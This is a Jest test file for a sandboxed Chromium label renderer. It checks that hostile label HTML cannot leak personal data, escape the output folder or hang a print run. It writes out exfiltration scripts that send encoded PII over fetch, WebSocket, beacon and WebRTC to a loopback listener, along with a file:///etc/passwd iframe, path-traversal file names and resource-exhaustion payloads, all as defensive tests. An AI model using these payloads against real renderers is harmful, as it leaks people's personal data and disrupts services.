/**
 * Hostile labels: each tries to send the label's personal data somewhere, or to run away. A TCP
 * listener (HTTP, WebSocket) and a UDP listener (WebRTC's STUN) on loopback must see nothing, and
 * every runaway label must be bounded. CI has Chromium (.ci/run installs it).
 */
import * as dgram from 'dgram'
import * as fs from 'fs'
import * as net from 'net'
import * as os from 'os'
import * as path from 'path'
import { DEFAULT_CHROMIUM, RenderLimitError, renderLabel, renderLabels } from '../src/render/render'

const haveChromium = fs.existsSync(DEFAULT_CHROMIUM)
if (!haveChromium && process.env.CI) throw new Error(`CI must have Chromium at ${DEFAULT_CHROMIUM}: .ci/run installs it`)
const withChromium = haveChromium ? describe : describe.skip
jest.setTimeout(60_000)

const PII = encodeURIComponent('收件人 张三 13800138000 北京市朝阳区')
let tcp: net.Server
let udp: dgram.Socket
let tcpPort: number
let udpPort: number
const seen = { tcp: 0, udp: 0 }
const held = new Set<net.Socket>()
const out = fs.mkdtempSync(path.join(os.tmpdir(), 'getorder-sealed-'))

beforeAll(async () => {
  tcp = net.createServer((s) => {
    seen.tcp++
    held.add(s)
    s.on('error', () => {})
    // Never answers: a font or a request from here would hang forever if it got through.
  })
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r))
  tcpPort = (tcp.address() as net.AddressInfo).port
  udp = dgram.createSocket('udp4')
  udp.on('message', () => seen.udp++)
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r))
  udpPort = udp.address().port
})
afterAll(async () => {
  for (const s of held) s.destroy()
  await new Promise<void>((r) => tcp.close(() => r()))
  await new Promise<void>((r) => udp.close(() => r()))
})
beforeEach(() => {
  seen.tcp = 0
  seen.udp = 0
})

const page = (body: string, head = '') => `<!DOCTYPE html><html><head><meta charset="utf-8"><style>@page{size:100mm 150mm;margin:0}</style>${head}</head><body><p>收件人 张三</p>${body}</body></html>`
const exfiltrate = () => `<script>
  const d = '${PII}'
  try { fetch('http://127.0.0.1:${tcpPort}/f?d=' + d) } catch (e) {}
  try { new WebSocket('ws://127.0.0.1:${tcpPort}/x?d=' + d) } catch (e) {}
  try { navigator.sendBeacon('http://127.0.0.1:${tcpPort}/b', d) } catch (e) {}
  try { new Image().src = 'http://127.0.0.1:${tcpPort}/i?d=' + d } catch (e) {}
  try { new EventSource('http://127.0.0.1:${tcpPort}/es') } catch (e) {}
  try {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] })
    pc.createDataChannel(d)
    pc.createOffer().then((o) => pc.setLocalDescription(o))
  } catch (e) {}
  try { navigator.serviceWorker.register('/sw.js') } catch (e) {}
</script>`

async function settleNetwork() {
  await new Promise((r) => setTimeout(r, 500))
}

withChromium('the listeners can see a leak', () => {
  test('control: the same label in an unsealed Chromium reaches them over TCP and UDP', async () => {
    const { chromium } = require('playwright-core') as typeof import('playwright-core')
    const browser = await chromium.launch({ executablePath: DEFAULT_CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu'] })
    try {
      const tab = await browser.newPage()
      // Not 'load': the listener never answers, so an unsealed page never finishes loading.
      await tab.setContent(page(exfiltrate()), { waitUntil: 'domcontentloaded' })
      for (let i = 0; i < 40 && (seen.tcp === 0 || seen.udp === 0); i++) await new Promise((r) => setTimeout(r, 100))
    } finally {
      await browser.close()
    }
    expect(seen.tcp).toBeGreaterThan(0)
    expect(seen.udp).toBeGreaterThan(0)
  })
})

withChromium('a sealed renderer', () => {
  test.each([
    ['an <img> from the network', page(`<img src="http://127.0.0.1:PORT/pixel.png?d=${PII}">`)],
    ['a <link> stylesheet', page('', `<link rel="stylesheet" href="http://127.0.0.1:PORT/s.css?d=${PII}">`)],
    ['a CSS background and @import', page('<div style="background:url(http://127.0.0.1:PORT/bg.png)">x</div>', '<style>@import url(http://127.0.0.1:PORT/i.css);</style>')],
    ['a font that never loads', page('<p style="font-family:Leak">字体</p>', '<style>@font-face{font-family:Leak;src:url(http://127.0.0.1:PORT/font.woff2)}</style>')],
    ['a DNS prefetch and preconnect', page('', '<link rel="dns-prefetch" href="//leak.example"><link rel="preconnect" href="http://127.0.0.1:PORT">')],
    ['a file:// iframe', page('<iframe src="file:///etc/passwd"></iframe><iframe src="http://127.0.0.1:PORT/frame"></iframe>')],
  ])('%s: the label prints, and nothing reaches the listeners', async (_name, html) => {
    const started = Date.now()
    const r = await renderLabel(html.replaceAll('PORT', String(tcpPort)), { outDir: out, name: `static-${Date.now()}` })
    await settleNetwork()
    expect(fs.statSync(r.pdf).size).toBeGreaterThan(0)
    expect(seen).toEqual({ tcp: 0, udp: 0 })
    expect(Date.now() - started).toBeLessThan(20_000)
  })

  test('scripts are off by default: fetch, WebSocket, beacon, EventSource and WebRTC never run', async () => {
    await renderLabel(page(exfiltrate()), { outDir: out, name: 'scripts-off' })
    await settleNetwork()
    expect(seen).toEqual({ tcp: 0, udp: 0 })
  })

  test('with --allow-scripts they run, and still nothing leaves: no TCP, no UDP', async () => {
    await renderLabel(page(exfiltrate()), { outDir: out, name: 'scripts-on', allowScripts: true })
    await settleNetwork()
    expect(seen).toEqual({ tcp: 0, udp: 0 })
  })

  test('a busy loop after load is ended by the label timeout, and the browser is closed', async () => {
    const html = page("<script>addEventListener('load', () => { for (;;) {} })</script>")
    const started = Date.now()
    await expect(renderLabel(html, { outDir: out, name: 'busy', allowScripts: true, labelTimeoutMs: 3000 })).rejects.toMatchObject({ name: 'RenderLimitError', limit: 'timeout' })
    expect(Date.now() - started).toBeLessThan(15_000)
    expect(fs.existsSync(path.join(out, 'busy.pdf'))).toBe(false)
  })

  test('a label of 20,000 pages is refused before printing, quickly', async () => {
    const html = page('<div style="page-break-after:always">页</div>'.repeat(20_000))
    const started = Date.now()
    const err = await renderLabel(html, { outDir: out, name: 'pages' }).catch((e: unknown) => e)
    expect(err).toBeInstanceOf(RenderLimitError)
    expect(err).toMatchObject({ limit: 'pages', message: expect.stringMatching(/at least \d+ pages, over the limit of 5/) })
    expect(Date.now() - started).toBeLessThan(20_000)
  })

  test('in a batch a runaway label fails alone and is listed at the end', async () => {
    const ok = page('<p>正常</p>')
    const r = await renderLabels(
      [
        { name: 'a', html: ok },
        { name: 'runaway', html: page('<div style="page-break-after:always">页</div>'.repeat(50)) },
        { name: 'b', html: ok },
      ],
      { outDir: out, pdfName: 'mixed.pdf' },
    )
    expect(r.labels.map((l) => [l.name, l.ok])).toEqual([
      ['a', true],
      ['runaway', false],
      ['b', true],
    ])
    // Two label pages and the page listing what did not print.
    expect(r.pages).toBe(3)
  })

  describe('labels that would wedge a print run fail alone, quickly', () => {
    const ok = page('<p>正常</p>')
    const huge = page('<style>@page { size: 100000mm 100000mm }</style><p>大</p>')
    const hidden = page('<style>@page { size: 100mm 150mm } @page :first { size: 100000mm 100000mm }</style><p>藏</p>')
    const braces = '@page{'.repeat(150_000) // 900 KB with no closing brace
    // Runs away only when printed: the screen layout is one page.
    const printOnly = page('<style>@media print { .tall { height: 200000mm } }</style><div class="tall">高</div>')
    test.each([
      ['a 100000 mm page', huge, 'size', /outside the label stock|larger than/],
      ['a 100000 mm page behind a plain one', hidden, 'size', /./],
      ['900 KB of "@page{"', braces, 'size', /./],
      // Refused by the check before printing (measured in print media), not after printing it.
      ['a 200000 mm element under @media print', printOnly, 'pages', /would print to at least/],
    ])('%s: alone it fails in under 10 s; in a batch the others print', async (_what, bad, limit, why) => {
      const started = Date.now()
      await expect(renderLabel(bad, { outDir: out, name: `wedge-${limit}` })).rejects.toMatchObject({ name: 'RenderLimitError', limit, message: expect.stringMatching(why) })
      expect(Date.now() - started).toBeLessThan(10_000)
      expect(fs.existsSync(path.join(out, `wedge-${limit}.pdf`))).toBe(false)
      const r = await renderLabels(
        [
          { name: 'a', html: ok },
          { name: 'bad', html: bad },
          { name: 'b', html: ok },
        ],
        { outDir: out, pdfName: `wedge-batch-${limit}.pdf` },
      )
      expect(r.labels.map((l) => [l.name, l.ok])).toEqual([
        ['a', true],
        ['bad', false],
        ['b', true],
      ])
      // The two labels and the page listing the one that did not print.
      expect(r.pages).toBe(3)
    })
  })

  test('names cannot write outside outDir: the library reduces them to safe file names', async () => {
    const inner = fs.mkdtempSync(path.join(out, 'inner-'))
    const r = await renderLabels([{ name: '../../escape', html: page('<p>x</p>') }], { outDir: inner, png: true, pdfName: '../escape.pdf' })
    expect(path.dirname(r.pdf)).toBe(inner)
    expect(path.dirname(r.labels[0]!.ok ? r.labels[0]!.png! : '')).toBe(inner)
    const single = await renderLabel(page('<p>y</p>'), { outDir: inner, name: '../../../tmp/escape-single' })
    expect(path.dirname(single.png)).toBe(inner)
    expect(path.dirname(single.pdf)).toBe(inner)
    expect(fs.readdirSync(out).filter((f) => f.includes('escape'))).toEqual([])
  })

  test('names that reduce alike get a file each; a long name still makes a .pdf', async () => {
    const dir = fs.mkdtempSync(path.join(out, 'names-'))
    const long = 'L'.repeat(150)
    const names = ['ORDER/1', 'ORDER?1', 'ORDER 1', `${long}-a`, `${long}-b`]
    const r = await renderLabels(
      names.map((name, i) => ({ name, html: page(`<p>第${i}张</p>`) })),
      { outDir: dir, png: true, pdfName: 'names.pdf' },
    )
    const pngs = r.labels.map((l) => (l.ok ? l.png! : ''))
    expect(new Set(pngs).size).toBe(5)
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.png'))).toHaveLength(5)
    // Each file is its own label: no two hold the same picture.
    expect(new Set(pngs.map((p) => fs.readFileSync(p).toString('base64'))).size).toBe(5)
    const single = await renderLabel(page('<p>长</p>'), { outDir: dir, name: 'N'.repeat(100) })
    expect(single.pdf.endsWith('.pdf')).toBe(true)
    expect(fs.existsSync(single.pdf)).toBe(true)
  })
})
